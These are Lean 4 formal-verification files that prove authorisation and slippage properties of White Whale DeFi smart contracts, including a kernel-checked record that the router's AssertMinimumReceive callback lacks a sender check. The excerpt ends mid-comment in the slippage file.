example : admits St.init (.terraswap_pair .UpdateConfig) .none .factory = true := by decide
-- … and after the transfer script the roles have swapped
example : admits afterSt (.terraswap_pair .UpdateConfig) .none .factory = false := by decide
example : admits afterSt (.terraswap_pair .UpdateConfig) .none .newOwner = true := by decide
-- the forwarding call of the (new) factory owner is admitted by the factory but refused by the pair
example : nestedRefusal afterSt (.terraswap_factory .UpdatePairConfig) .none .newOwner = true := by decide
-- the hypotheses of `transfer_ownership` are met by all 12 owned contracts
example : (allContracts.filter fun c => (ownUpdateConfig c).isSome).length = 12 := by decide
-- the hypotheses of `unauthorised_rejected` are met: 32 roles × 46 guarded variants, most pairs unauthorised
example : allRoles.length = 32 := by decide
example : (allMsgs.filter fun m => (requires m).isSome).length = 46 := by decide
example : allMsgs.length = 87 := by decide
-- the finding, concretely: a plain user passes the router's AssertMinimumReceive, not its sibling callback
example : admits St.init (.terraswap_router .AssertMinimumReceive) .none .user = true := by decide
example : admits St.init (.terraswap_router .ExecuteSwapOperation) .none .user = false := by decide
-- inside a flash-loan callback: the borrower (or anybody else) cannot reconfigure the vault, its owner can;
-- a nested loan is refused for everybody, and the vault router's loan fails one level down
example : admits (St.init.withLoan true) (.vault .UpdateConfig) .none .borrower = false := by decide
example : admits (St.init.withLoan true) (.vault .UpdateConfig) .none .user = false := by decide
example : admits (St.init.withLoan true) (.vault .UpdateConfig) .none .factory = true := by decide
example : admits (St.init.withLoan true) (.vault .FlashLoan) .none .owner = false := by decide
example : nestedRefusal (St.init.withLoan true) (.vault_router .FlashLoan) .none .user = true := by decide
example : nestedRefusal St.init (.vault_router .FlashLoan) .none .user = false := by decide
-- flows: label 0 denotes flow 1 (flowCreator's); otherFlowCreator owns flow 2 with the same label and is refused
example : (St.init.resolve (.label 0)).map (·.id) = some 1 := by decide
example : admits St.init (.incentive .CloseFlow) (.label 0) .otherFlowCreator = false := by decide
example : admits St.init (.incentive .CloseFlow) (.label 0) .flowCreator = true := by decide
example : admits St.init (.incentive .CloseFlow) (.id 2) .otherFlowCreator = true := by decide
-- label 1 denotes flow 4 (otherFlowCreator's, earlier start epoch) although flowCreator's flow 3 has the lower id
example : (St.init.resolve (.label 1)).map (·.id) = some 4 := by decide
example : admits St.init (.incentive .CloseFlow) (.label 1) .flowCreator = false := by decide
example : admits St.init (.incentive .CloseFlow) (.id 3) .flowCreator = true := by decide
example : admits St.init (.incentive .CloseFlow) (.label 1) .owner = true := by decide
-- closing by label 0 removes flow 1 only
example : (effect St.init (.incentive .CloseFlow) ⟨none, .label 0⟩).flows.map (·.id) = [2, 4, 3] := by decide

end WW.C16
