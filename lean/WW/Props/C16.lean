/-
  C16 — Only the owner (or the contract itself) can perform privileged operations.
  Property theorems only (helpers live in WW/Proofs/Auth). The model is the table `requires`
  (contract × ExecuteMsg variant → rule on the sender) with the guarded dispatch `step` of
  WW/Model/Auth; it is tied to the 15 real contracts by the exhaustive `authmatrix` engine
  (every variant × every role × before/after ownership transfer × randomised payloads).

  `err` carries no state: a rejected call leaves the state unchanged by construction (`Res`).
-/
import WW.Proofs.Auth
namespace WW.C16
open WW WW.Auth

/-! ## unauthorised ⇒ rejected -/

/-- Clause "an attempt by anyone else fails": for every state, every variant of every contract that
    has a rule and EVERY address that does not satisfy it, the call is rejected. -/
theorem unauthorised_rejected_any_address (s : St) (m : Msg) (rule : AuthRule) (no : Option Principal)
    (p : Principal) (hr : requires m = some rule) (hp : holds s m.contract rule p = false) :
    stepP s m no p = .err := by
  apply stepP_err_of_not_admits
  unfold admitsP
  rw [hr]
  exact hp

/-- The same for the caller roles of the matrix (∀ contract, variant, role, state). -/
theorem unauthorised_rejected (s : St) (m : Msg) (rule : AuthRule) (no : Option Principal) (r : Role)
    (hr : requires m = some rule) (hp : holds s m.contract rule (resolve m.contract r) = false) :
    step s m no r = .err :=
  unauthorised_rejected_any_address s m rule no _ hr hp

/-- A history is a list of calls; a failed call is skipped (the transaction reverted). -/
def applyCall (s : St) (c : Msg × Option Principal × Principal) : St :=
  match stepP s c.1 c.2.1 c.2.2 with
  | .ok s' => s'
  | _ => s

def reach (s : St) (h : List (Msg × Option Principal × Principal)) : St := h.foldl applyCall s

/-- "… and leaves all storage unchanged": a rejected call does not move the state. -/
theorem rejected_unchanged (s : St) (m : Msg) (no : Option Principal) (p : Principal)
    (h : admitsP s m p = false) : applyCall s (m, no, p) = s := by
  unfold applyCall
  rw [stepP_err_of_not_admits h]

/-- The dispatch never panics. -/
theorem never_panics (s : St) (m : Msg) (no : Option Principal) (r : Role) : step s m no r ≠ .panic :=
  stepP_never_panics s m no _

/-! ## guarded dispatch = table lookup (refinement) -/

/-- The authorisation verdict is exactly the table entry evaluated on the sender. -/
theorem admits_is_table_lookup (s : St) (m : Msg) (r : Role) :
    admits s m r = (match requires m with
      | none => true
      | some rule => holds s m.contract rule (resolve m.contract r)) := rfl

/-- `step` succeeds iff the table admits the sender and every internal message the handler sends on;
    when it succeeds the only thing it writes is the owner named in the payload. -/
theorem guarded_dispatch_refines_table (s : St) (m : Msg) (no : Option Principal) (r : Role) (s' : St) :
    step s m no r = .ok s' ↔
      (admits s m r = true ∧ subcallsAdmitted s m = true ∧ s' = effect s m no) :=
  stepP_ok_iff

/-- A designated sender is admitted (the check does not lock the owner out): rule satisfied and
    internal flows admitted ⇒ the call goes through. -/
theorem authorised_admitted (s : St) (m : Msg) (no : Option Principal) (r : Role)
    (h : admits s m r = true) (hs : subcallsAdmitted s m = true) :
    step s m no r = .ok (effect s m no) :=
  (guarded_dispatch_refines_table s m no r _).mpr ⟨h, hs, rfl⟩

/-- Permissionless entry points admit every sender in every state. -/
theorem permissionless_admits_all (s : St) (m : Msg) (p : Principal) (h : requires m = none) :
    admitsP s m p = true := by
  unfold admitsP
  rw [h]

/-! ## the complete list of permissionless variants (for the reader to audit) -/

def permissionless : List Msg :=
  [ .terraswap_pair .ProvideLiquidity, .terraswap_pair .WithdrawLiquidity, .terraswap_pair .Swap,
    .terraswap_pair .CollectProtocolFees,
    .stableswap_3pool .ProvideLiquidity, .stableswap_3pool .WithdrawLiquidity, .stableswap_3pool .Swap,
    .stableswap_3pool .CollectProtocolFees,
    .terraswap_router .Receive_ExecuteSwapOperations, .terraswap_router .ExecuteSwapOperations,
    .terraswap_router .AssertMinimumReceive,   -- ← open in the code; the property wants `self` (known finding)
    .terraswap_token .Transfer, .terraswap_token .Burn, .terraswap_token .Send,
    .terraswap_token .IncreaseAllowance, .terraswap_token .DecreaseAllowance,
    .terraswap_token .TransferFrom, .terraswap_token .SendFrom, .terraswap_token .BurnFrom,
    .incentive .TakeGlobalWeightSnapshot, .incentive .OpenFlow, .incentive .OpenPosition,
    .incentive .ExpandPosition, .incentive .ClosePosition, .incentive .Withdraw, .incentive .Claim,
    .incentive .ExpandFlow,
    .frontend_helper .Deposit,
    .vault .Deposit, .vault .Withdraw, .vault .FlashLoan, .vault .CollectProtocolFees,
    .vault_router .FlashLoan,
    .fee_collector .CollectFees, .fee_collector .AggregateFees,
    .fee_distributor .NewEpoch, .fee_distributor .Claim,
    .whale_lair .Bond, .whale_lair .Unbond, .whale_lair .Withdraw,
    .epoch_manager .CreateEpoch ]

/-- A variant has no sender rule iff it is in the list above — nothing else is permissionless. -/
theorem permissionless_listed : ∀ m : Msg, requires m = none ↔ m ∈ permissionless :=
  forall_msg_of_all (by decide)

/-- Every other variant — configuration changes, creation / removal, migrations, route and hook
    management, fee and toggle updates, callbacks, cw20 hooks, minting — carries a rule. -/
theorem privileged_have_rule (m : Msg) (h : m ∉ permissionless) : ∃ rule, requires m = some rule := by
  cases hr : requires m with
  | none => exact absurd ((permissionless_listed m).mp hr) h
  | some rule => exact ⟨rule, rfl⟩

/-- The code's table and the property's intent differ in exactly one cell. -/
theorem intended_differs_only_at_amr :
    ∀ m : Msg, intended m ≠ requires m ↔ m = .terraswap_router .AssertMinimumReceive :=
  forall_msg_of_all (by decide)

/-! ## ownership transfer -/

/-- the contract's own message that rewrites its owner (12 contracts store one) -/
def ownUpdateConfig : Contract → Option Msg
  | .terraswap_factory => some (.terraswap_factory .UpdateConfig)
  | .terraswap_pair => some (.terraswap_pair .UpdateConfig)
  | .stableswap_3pool => some (.stableswap_3pool .UpdateConfig)
  | .incentive_factory => some (.incentive_factory .UpdateConfig)
  | .frontend_helper => some (.frontend_helper .UpdateConfig)
  | .vault_factory => some (.vault_factory .UpdateConfig)
  | .vault => some (.vault .UpdateConfig)
  | .vault_router => some (.vault_router .UpdateConfig)
  | .fee_collector => some (.fee_collector .UpdateConfig)
  | .fee_distributor => some (.fee_distributor .UpdateConfig)
  | .whale_lair => some (.whale_lair .UpdateConfig)
  | .epoch_manager => some (.epoch_manager .UpdateConfig)
  | .terraswap_router | .terraswap_token | .incentive => none

/-- Clause "after ownership is transferred the old owner loses and the new owner gains these rights",
    for every contract with a transferable owner, every state, every current owner and every new owner:
    the owner's `UpdateConfig{owner := n}` succeeds, and afterwards an address is admitted to an
    owner-guarded variant of that contract iff it is `n`. -/
theorem transfer_ownership (c : Contract) (uc : Msg) (huc : ownUpdateConfig c = some uc)
    (s : St) (n : Principal) :
    ∃ s', stepP s uc (some n) (s.owner c) = .ok s' ∧ s'.owner c = n ∧
      ∀ m : Msg, m.contract = c → requires m = some .owner →
        ∀ p : Principal, admitsP s' m p = true ↔ p = n := by
  have key : uc.contract = c ∧ requires uc = some .owner ∧ subcalls uc = [] ∧ ownerTarget uc = some c := by
    cases c <;> simp [ownUpdateConfig] at huc <;> subst huc <;> decide
  obtain ⟨hc, hr, hsub, ht⟩ := key
  refine ⟨s.setOwner c n, ?_, setOwner_same s c n, ?_⟩
  · rw [stepP_ok_iff]
    refine ⟨?_, ?_, ?_⟩
    · unfold admitsP
      rw [hr, hc]
      simp [holds]
    · unfold subcallsAdmitted
      rw [hsub]
      rfl
    · unfold effect
      rw [ht]
  · intro m hm hreq p
    unfold admitsP
    rw [hreq, hm, holds_owner_iff, setOwner_same]

/-- In particular the old owner is locked out (unless it named itself) and the new owner is in. -/
theorem transfer_ownership_old_new (c : Contract) (uc : Msg) (huc : ownUpdateConfig c = some uc)
    (s : St) (n : Principal) (hn : n ≠ s.owner c) :
    ∃ s', stepP s uc (some n) (s.owner c) = .ok s' ∧
      ∀ m : Msg, m.contract = c → requires m = some .owner →
        admitsP s' m n = true ∧ admitsP s' m (s.owner c) = false := by
  obtain ⟨s', h1, _, h3⟩ := transfer_ownership c uc huc s n
  refine ⟨s', h1, fun m hm hr => ⟨(h3 m hm hr n).mpr rfl, ?_⟩⟩
  cases h : admitsP s' m (s.owner c) with
  | false => rfl
  | true => exact absurd ((h3 m hm hr _).mp h).symm hn

/-- Children are transferred through their factory: while the factory owns the child, the factory
    owner's `Update{Pair,Trio,Vault}Config{owner := n}` moves the child's owner to `n`; afterwards the
    factory itself is refused by the child (if `n` is not the factory) and a further forwarding call
    fails as a whole. -/
theorem transfer_child_via_factory (fm : Msg) (child fac : Contract)
    (h : (fm, child, fac) ∈
      [ (Msg.terraswap_factory .UpdatePairConfig, Contract.terraswap_pair, Contract.terraswap_factory),
        (Msg.terraswap_factory .UpdateTrioConfig, Contract.stableswap_3pool, Contract.terraswap_factory),
        (Msg.vault_factory .UpdateVaultConfig, Contract.vault, Contract.vault_factory) ])
    (s : St) (n : Principal) (hown : s.owner child = .contract fac) (hn : n ≠ .contract fac) :
    ∃ s', stepP s fm (some n) (s.owner fac) = .ok s' ∧ s'.owner child = n ∧
      (∀ uc, ownUpdateConfig child = some uc → admitsP s' uc (.contract fac) = false) ∧
      (∀ no p, stepP s' fm no p = .err) := by
  simp only [List.mem_cons, Prod.mk.injEq, List.mem_nil_iff, or_false] at h
  rcases h with ⟨rfl, rfl, rfl⟩ | ⟨rfl, rfl, rfl⟩ | ⟨rfl, rfl, rfl⟩
  all_goals
    refine ⟨s.setOwner _ n, ?_, setOwner_same _ _ _, ?_, ?_⟩
    · rw [stepP_ok_iff]
      refine ⟨?_, ?_, rfl⟩
      · simp [admitsP, requires, holds, Msg.contract]
      · simp [subcallsAdmitted, subcalls, admitsP, requires, holds, Msg.contract, hown]
    · intro uc huc
      simp [ownUpdateConfig] at huc
      subst huc
      simp [admitsP, requires, holds, Msg.contract, St.setOwner]
      exact fun h => hn h.symm
    · intro no p
      unfold stepP
      split
      · rw [if_neg]
        simp [subcallsAdmitted, subcalls, admitsP, requires, holds, Msg.contract, St.setOwner]
        exact fun h => hn h.symm
      · rfl

/-- Over any history the owner of a contract moves only through a message that targets it and that the
    table admitted — and every such message is owner-guarded. -/
theorem owner_moves_only_by_admitted_owner_call (s s' : St) (m : Msg) (no : Option Principal)
    (p : Principal) (c : Contract) (h : stepP s m no p = .ok s') (hc : s'.owner c ≠ s.owner c) :
    ownerTarget m = some c ∧ requires m = some .owner ∧ p = s.owner m.contract := by
  obtain ⟨hadm, _, heff⟩ := stepP_ok_iff.mp h
  have ht : ownerTarget m = some c := by
    subst heff
    unfold effect at hc
    cases hot : ownerTarget m with
    | none => rw [hot] at hc; exact absurd rfl hc
    | some c' =>
      rw [hot] at hc
      cases no with
      | none => exact absurd rfl hc
      | some n =>
        by_cases hcc : c = c'
        · rw [hcc]
        · exact absurd (setOwner_other s n hcc) hc
  have hreq : requires m = some .owner := by
    have : ∀ m : Msg, ∀ c, ownerTarget m = some c → requires m = some .owner := by
      intro m
      exact (forall_msg_of_all (P := fun m => ∀ c, ownerTarget m = some c → requires m = some .owner)
        (by decide)) m
    exact this m c ht
  refine ⟨ht, hreq, ?_⟩
  unfold admitsP at hadm
  rw [hreq] at hadm
  exact (holds_owner_iff s m.contract p).mp hadm

/-- The transfer script the harness runs between the two phases succeeds in the model and hands every
    stored owner to `newOwner`. -/
theorem transfer_script_result (c : Contract) :
    (St.afterTransfer.toOption.map fun s => s.owner c) = some (afterOwner c) := by
  cases c <;> rfl

/-- Matrix form, both phases, every owner-guarded variant of every contract: before the transfer the
    future owner is refused; after it the previous owner is refused and the new owner admitted. -/
theorem transfer_matrix :
    ∀ m : Msg, requires m = some .owner →
      admits St.init m .newOwner = false ∧
      admits ⟨afterOwner⟩ m .owner = false ∧ admits ⟨afterOwner⟩ m .newOwner = true :=
  forall_msg_of_all (by decide)

/-- The incentive contract stores no owner: closing a flow follows the incentive FACTORY's owner, so a
    transfer of the factory moves this right as well (the flow's creator keeps it). -/
theorem close_flow_follows_factory_owner (s : St) (p : Principal) :
    admitsP s (.incentive .CloseFlow) p = true ↔ (p = .acct .flowCreator ∨ p = s.owner .incentive_factory) := by
  simp [admitsP, requires, holds]

/-! ## internal callbacks: designated contract only -/

/-- the contract designated to send each internal callback -/
def designated : Msg → Option Principal
  | .vault .Callback_AfterTrade => some (.contract .vault)
  | .terraswap_router .ExecuteSwapOperation => some (.contract .terraswap_router)
  | .terraswap_router .AssertMinimumReceive => some (.contract .terraswap_router)
  | .vault_router .NextLoan => some (.contract .vault)
  | .vault_router .CompleteLoan => some (.contract .vault_router)
  | .fee_collector .ForwardFees => some (.contract .fee_distributor)
  | _ => none

/-- FULL statement of the clause: every internal callback (vault AfterTrade, router single hop and
    minimum-receive, vault-router NextLoan / CompleteLoan, collector ForwardFees) is admitted for the
    designated contract and for nobody else, in every state. -/
def CallbacksDesignatedOnly : Prop :=
  ∀ (m : Msg) (d : Principal), designated m = some d →
    ∀ (s : St) (p : Principal), admitsP s m p = true ↔ p = d

/-- Witness of the known finding `C16-router-assert-min-receive-open`: the model — like
    terraswap_router/src/contract.rs, whose `AssertMinimumReceive` arm never looks at `info.sender` —
    admits EVERY sender in every state. (Replay: replays/known/C16-router-assert-min-receive-open.json;
    two baseline tests `assert_minimum_receive_*` require this behaviour, so it is not repaired.) -/
theorem C16_router_amr_open (s : St) (p : Principal) :
    admitsP s (.terraswap_router .AssertMinimumReceive) p = true := rfl

/-- Hence the full clause is false on the current code (kernel-checked negation). -/
theorem C16_fails_on_current : ¬ CallbacksDesignatedOnly := by
  intro h
  have := (h (.terraswap_router .AssertMinimumReceive) _ rfl St.init (.acct .user)).mp
    (C16_router_amr_open _ _)
  cases this

/-- What holds: the clause for the five callbacks other than `AssertMinimumReceive`
    (missing for the full statement: a sender check in the router's `AssertMinimumReceive`). -/
theorem callbacks_designated_only_partial (m : Msg) (d : Principal) (hd : designated m = some d)
    (hm : m ≠ .terraswap_router .AssertMinimumReceive) (s : St) (p : Principal) :
    admitsP s m p = true ↔ p = d := by
  have cases5 : m = .vault .Callback_AfterTrade ∨ m = .terraswap_router .ExecuteSwapOperation ∨
      m = .vault_router .NextLoan ∨ m = .vault_router .CompleteLoan ∨ m = .fee_collector .ForwardFees := by
    have hsome : (designated m).isSome = true := by rw [hd]; rfl
    exact (forall_msg_of_all (P := fun m => (designated m).isSome = true →
      m ≠ .terraswap_router .AssertMinimumReceive →
      (m = .vault .Callback_AfterTrade ∨ m = .terraswap_router .ExecuteSwapOperation ∨
        m = .vault_router .NextLoan ∨ m = .vault_router .CompleteLoan ∨ m = .fee_collector .ForwardFees))
      (by decide)) m hsome hm
  rcases cases5 with rfl | rfl | rfl | rfl | rfl <;>
    · simp [designated] at hd
      subst hd
      simp [admitsP, requires, holds, Msg.contract]

/-- `callbacks_designated_only` for the five, spelled out. -/
theorem callbacks_designated_only (s : St) (p : Principal) :
    (admitsP s (.vault .Callback_AfterTrade) p = true ↔ p = .contract .vault) ∧
    (admitsP s (.terraswap_router .ExecuteSwapOperation) p = true ↔ p = .contract .terraswap_router) ∧
    (admitsP s (.vault_router .NextLoan) p = true ↔ p = .contract .vault) ∧
    (admitsP s (.vault_router .CompleteLoan) p = true ↔ p = .contract .vault_router) ∧
    (admitsP s (.fee_collector .ForwardFees) p = true ↔ p = .contract .fee_distributor) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩ <;> simp [admitsP, requires, holds, Msg.contract]

/-- The sender checks do not block the protocol's own flows: at genesis every internal message a
    handler sends on as itself is admitted by its receiver. -/
theorem internal_flows_admitted : ∀ m : Msg, subcallsAdmitted St.init m = true :=
  forall_msg_of_all (by decide)

/-- The router's route management is guarded by the wasm admin, not by any configured owner
    (recorded assumption: every deployment sets the admin; the harness always does). -/
theorem routes_wasm_admin_only (s : St) (p : Principal) :
    (admitsP s (.terraswap_router .AddSwapRoutes) p = true ↔ p = .acct .wasmAdmin) ∧
    (admitsP s (.terraswap_router .RemoveSwapRoutes) p = true ↔ p = .acct .wasmAdmin) := by
  constructor <;> simp [admitsP, requires, holds]

/-! ## non-vacuity / concrete outputs of the model -/

-- a stranger is refused on a privileged variant, the owner is admitted, at genesis
example : (step St.init (.vault_factory .CreateVault) none .user).isOk = false := by decide
example : (step St.init (.vault_factory .CreateVault) none .owner).isOk = true := by decide
-- children belong to their factory: the hub owner is refused, the factory admitted …
example : admits St.init (.terraswap_pair .UpdateConfig) .owner = false := by decide
example : admits St.init (.terraswap_pair .UpdateConfig) .factory = true := by decide
-- … and after the transfer script the roles have swapped
example : admits ⟨afterOwner⟩ (.terraswap_pair .UpdateConfig) .factory = false := by decide
example : admits ⟨afterOwner⟩ (.terraswap_pair .UpdateConfig) .newOwner = true := by decide
-- the forwarding call of the (new) factory owner is admitted by the factory but refused by the pair
example : nestedRefusal ⟨afterOwner⟩ (.terraswap_factory .UpdatePairConfig) .newOwner = true := by decide
-- the hypotheses of `transfer_ownership` are met by all 12 owned contracts
example : (allContracts.filter fun c => (ownUpdateConfig c).isSome).length = 12 := by decide
-- the hypotheses of `unauthorised_rejected` are met: 30 roles × 46 guarded variants, most pairs unauthorised
example : allRoles.length = 30 := by decide
example : (allMsgs.filter fun m => (requires m).isSome).length = 46 := by decide
example : allMsgs.length = 87 := by decide
-- the finding, concretely: a plain user passes the router's AssertMinimumReceive, not its sibling callback
example : admits St.init (.terraswap_router .AssertMinimumReceive) .user = true := by decide
example : admits St.init (.terraswap_router .ExecuteSwapOperation) .user = false := by decide

end WW.C16
