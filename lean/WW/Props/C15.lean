/-
  C15 — Slippage limits and minimum-receive are enforced.
  Property theorems only (helpers live in WW/Proofs/Slippage.lean).  The models are the replicas of
    `white_whale_std::pool_network::swap::assert_max_spread`            (`assertMaxSpread`)
    `terraswap_pair::helpers::assert_slippage_tolerance`                (`pairAssertSlippage`)
    `stableswap_3pool::helpers::assert_slippage_tolerance`              (`trioAssertSlippage`)
    `terraswap_router::contract::assert_minimum_receive`                (`assertMinimumReceive`)
  and of their call sites (`pairSwapChecked`, `routeChecked`); they are tied to the Rust by the
  `slippage` correspondence engine (direct calls) and its `exec` variant (operations executed on the
  real contracts).  Amounts are `Uint128` values, `Decimal`s are 18-decimal atomics (`E18` = 1.0).

  Every characterisation is an IFF: `→` is "a success satisfied the bound", `←` is "a request
  within the limit is not rejected".
-/
import WW.Proofs.Slippage
namespace WW.C15
open WW

/-! ## the documented constants -/

/-- default max spread is 1 % — pinned: a changed `DEFAULT_SLIPPAGE` breaks this obligation -/
theorem default_is_one_percent : Gen.SWAP_DEFAULT_SLIPPAGE * 100 = E18 := by decide

/-- the cap on max spread is 50 % — pinned: a changed `MAX_ALLOWED_SLIPPAGE` breaks this obligation -/
theorem cap_is_fifty_percent : Gen.SWAP_MAX_ALLOWED_SLIPPAGE * 2 = E18 := by decide

/-- the limit a swap is held to: `min(s ?? 1 %, 50 %)` -/
theorem effective_spread (s : Option Nat) :
    effSpread s = Nat.min (s.getD (E18 / 100)) (E18 / 2) := by
  unfold effSpread
  rw [default_spread_pinned, spread_cap_pinned]

/-! ## swap: max spread without a belief price -/

/-- **max_spread_iff** — with `gross + spread` a non-zero `Uint128`, the assertion accepts exactly when
    `⌊spread·10¹⁸/(gross+spread)⌋ ≤ min(s ?? 1 %, 50 %)` (the exact floor arithmetic of the code). -/
theorem max_spread_iff (s : Option Nat) (offer : Nat) {gross spread : Nat}
    (h0 : gross + spread ≠ 0) (hmax : gross + spread ≤ U128MAX) :
    assertMaxSpread none s offer gross spread = .ok () ↔
      spread * E18 / (gross + spread) ≤ effSpread s := by
  rw [assertMaxSpread_none_closed s offer h0 hmax]
  constructor
  · intro h; by_contra hn; rw [if_neg hn] at h; cases h
  · intro h; rw [if_pos h]

/-- … and otherwise it returns an error; it never panics on that domain. -/
theorem max_spread_rejects_iff (s : Option Nat) (offer : Nat) {gross spread : Nat}
    (h0 : gross + spread ≠ 0) (hmax : gross + spread ≤ U128MAX) :
    assertMaxSpread none s offer gross spread = .err ↔
      effSpread s < spread * E18 / (gross + spread) := by
  rw [assertMaxSpread_none_closed s offer h0 hmax]
  constructor
  · intro h; by_contra hn; rw [if_pos (by omega)] at h; cases h
  · intro h; rw [if_neg (by omega)]

/-- outside it the Rust panics (`from_ratio(0, 0)`, `Uint128` overflow of `return + spread`):
    a swap whose gross return and spread are both zero aborts instead of returning an error. -/
theorem max_spread_degenerate_panics (s : Option Nat) (offer : Nat) :
    assertMaxSpread none s offer 0 0 = .panic ∧
    ∀ gross spread, ¬ gross + spread ≤ U128MAX → assertMaxSpread none s offer gross spread = .panic :=
  ⟨assertMaxSpread_none_zero s offer, fun _ _ h => assertMaxSpread_none_overflow s offer h⟩

/-- success ⇒ `spread/(gross+spread) < s + 10⁻¹⁸` (rational bound; the `+1` is the floor) -/
theorem max_spread_sound (s : Option Nat) (offer : Nat) {gross spread : Nat}
    (h0 : gross + spread ≠ 0) (hmax : gross + spread ≤ U128MAX)
    (h : assertMaxSpread none s offer gross spread = .ok ()) :
    spread * E18 < (effSpread s + 1) * (gross + spread) :=
  (floor_le_iff (Nat.pos_of_ne_zero h0)).mp ((max_spread_iff s offer h0 hmax).mp h)

/-- `spread/(gross+spread) ≤ s` ⇒ not rejected -/
theorem max_spread_complete (s : Option Nat) (offer : Nat) {gross spread : Nat}
    (h0 : gross + spread ≠ 0) (hmax : gross + spread ≤ U128MAX)
    (h : spread * E18 ≤ effSpread s * (gross + spread)) :
    assertMaxSpread none s offer gross spread = .ok () :=
  (max_spread_iff s offer h0 hmax).mpr (floor_le_of_le_mul h)

/-- a swap without spread is never rejected, whatever the limit (even 0) -/
theorem zero_spread_accepted (s : Option Nat) (offer : Nat) {gross : Nat} (hg : gross ≠ 0)
    (hmax : gross ≤ U128MAX) : assertMaxSpread none s offer gross 0 = .ok () :=
  max_spread_complete s offer (by omega) (by omega) (by simp)

/-- a requested spread above the cap is treated as the cap -/
theorem spread_above_cap_is_cap {s : Nat} (hs : E18 / 2 ≤ s) (offer gross spread : Nat) :
    assertMaxSpread none (some s) offer gross spread
      = assertMaxSpread none (some (E18 / 2)) offer gross spread := by
  have e : effSpread (some s) = effSpread (some (E18 / 2)) := by
    rw [effective_spread, effective_spread]
    simp only [Option.getD_some]
    show min s (E18 / 2) = min (E18 / 2) (E18 / 2)
    rw [Nat.min_eq_right hs, Nat.min_self]
  unfold assertMaxSpread
  rw [e]

/-! ## swap: belief price given -/

/-- **belief_iff** — with a non-zero belief price `p` (atomics) and
    `expected = ⌊offer·⌊10³⁶/p⌋/10¹⁸⌋` a `Uint128`, the assertion accepts exactly when
    `gross ≥ expected` or `⌊(expected−gross)·10¹⁸/expected⌋ ≤ min(s ?? 1 %, 50 %)`. -/
theorem belief_iff (s : Option Nat) {p offer : Nat} (gross spread : Nat) (hp : p ≠ 0)
    (hexp : beliefExpected p offer ≤ U128MAX) :
    assertMaxSpread (some p) s offer gross spread = .ok () ↔
      (beliefExpected p offer ≤ gross ∨
        (beliefExpected p offer - gross) * E18 / beliefExpected p offer ≤ effSpread s) := by
  rw [assertMaxSpread_belief_closed s gross spread hp hexp]
  constructor
  · intro h
    by_cases hlt : gross < beliefExpected p offer
    · rw [if_pos hlt] at h
      right; by_contra hn; rw [if_neg hn] at h; cases h
    · left; omega
  · rintro (h | h)
    · rw [if_neg (by omega)]
    · by_cases hlt : gross < beliefExpected p offer
      · rw [if_pos hlt, if_pos h]
      · rw [if_neg hlt]

/-- `expected` spelled out -/
theorem belief_expected_eq (p offer : Nat) :
    beliefExpected p offer = offer * (10 ^ 36 / p) / 10 ^ 18 := by
  unfold beliefExpected
  have : E18 * E18 = 10 ^ 36 := by decide
  have h18 : E18 = 10 ^ 18 := by decide
  rw [this, h18]

/-- a zero belief price is an error; an expected return beyond `Uint128` is a panic -/
theorem belief_degenerate (s : Option Nat) (offer gross spread : Nat) :
    assertMaxSpread (some 0) s offer gross spread = .err ∧
    ∀ p, p ≠ 0 → ¬ beliefExpected p offer ≤ U128MAX →
      assertMaxSpread (some p) s offer gross spread = .panic :=
  ⟨assertMaxSpread_belief_zero s offer gross spread,
   fun _ hp h => assertMaxSpread_belief_overflow s gross spread hp h⟩

/-- **derived bound** — success ⇒
    `gross + [expected·10⁻¹⁸ + (1 + offer·10⁻¹⁸)(1−s)]  ≥  (offer/p)(1−s)`,
    cross-multiplied by `10³⁶·p` (`p` in atomics, so `offer/p` = `offer·10¹⁸/p`).
    The bracket is the explicit rounding slack: one base unit for the `Uint128` floor, `offer·10⁻¹⁸`
    for the 18-decimal inverse of the price, `expected·10⁻¹⁸` for the floored ratio. -/
theorem belief_bound (s : Option Nat) {p offer : Nat} (gross spread : Nat) (hp : p ≠ 0)
    (hexp : beliefExpected p offer ≤ U128MAX)
    (h : assertMaxSpread (some p) s offer gross spread = .ok ()) :
    offer * (E18 * E18) * (E18 - effSpread s) ≤
      gross * (E18 * E18 * p) +
        (beliefExpected p offer * E18 * p + (E18 * p + offer * p) * (E18 - effSpread s)) := by
  have hiff := (belief_iff s gross spread hp hexp).mp h
  have hpp : 0 < p := Nat.pos_of_ne_zero hp
  have hB : beliefExpected p offer * (E18 - effSpread s) ≤ gross * E18 + beliefExpected p offer := by
    apply belief_ratio_core _ _ _ _ (effSpread_le_one s)
    rcases hiff with h1 | h2
    · exact Or.inl h1
    · rcases Nat.eq_zero_or_pos (beliefExpected p offer) with h0 | hpos
      · left; omega
      · exact Or.inr ((floor_le_iff hpos).mp h2)
  unfold beliefExpected at *
  exact belief_core offer p (E18 * E18 / p) _ gross E18 _ (lt_succ_div_mul _ hpp)
    (lt_succ_div_mul _ E18_pos) hB

/-- `gross ≥ (offer/p)(1−s)` ⇒ not rejected (unless the expected return overflows `Uint128`) -/
theorem belief_complete (s : Option Nat) {p offer : Nat} (gross spread : Nat) (hp : p ≠ 0)
    (hexp : beliefExpected p offer ≤ U128MAX)
    (h : offer * (E18 - effSpread s) ≤ gross * p) :
    assertMaxSpread (some p) s offer gross spread = .ok () := by
  rw [belief_iff s gross spread hp hexp]
  have hpp : 0 < p := Nat.pos_of_ne_zero hp
  have hm := effSpread_le_one s
  have core : beliefExpected p offer * (E18 - effSpread s) ≤ gross * E18 := by
    unfold beliefExpected
    exact belief_complete_core offer p (E18 * E18 / p) _ gross E18 _ hpp E18_pos
      (Nat.div_mul_le_self _ _) (Nat.div_mul_le_self _ _) h
  generalize beliefExpected p offer = e at *
  generalize effSpread s = m at *
  rcases Nat.lt_or_ge gross e with hlt | hge
  · right
    apply floor_le_of_le_mul
    obtain ⟨D, hD⟩ : ∃ D, E18 = m + D := ⟨E18 - m, by omega⟩
    have hDe : E18 - m = D := by omega
    rw [hDe] at core
    obtain ⟨k, hk⟩ : ∃ k, e = gross + k := ⟨e - gross, by omega⟩
    have : e - gross = k := by omega
    rw [this]
    generalize E18 = E at *
    subst hk; subst hD
    nlinarith
  · left; exact hge

/-- The statement's literal "up to one base unit of rounding":
    success ⇒ `gross + 1 ≥ (offer/p)(1−s)`. -/
def BeliefWithinOneUnit : Prop :=
  ∀ (s : Option Nat) (p offer gross spread : Nat), p ≠ 0 → beliefExpected p offer ≤ U128MAX →
    assertMaxSpread (some p) s offer gross spread = .ok () →
    offer * (E18 - effSpread s) ≤ (gross + 1) * p

/-- It does **not** hold for the current code: the price's inverse is rounded to 18 decimals
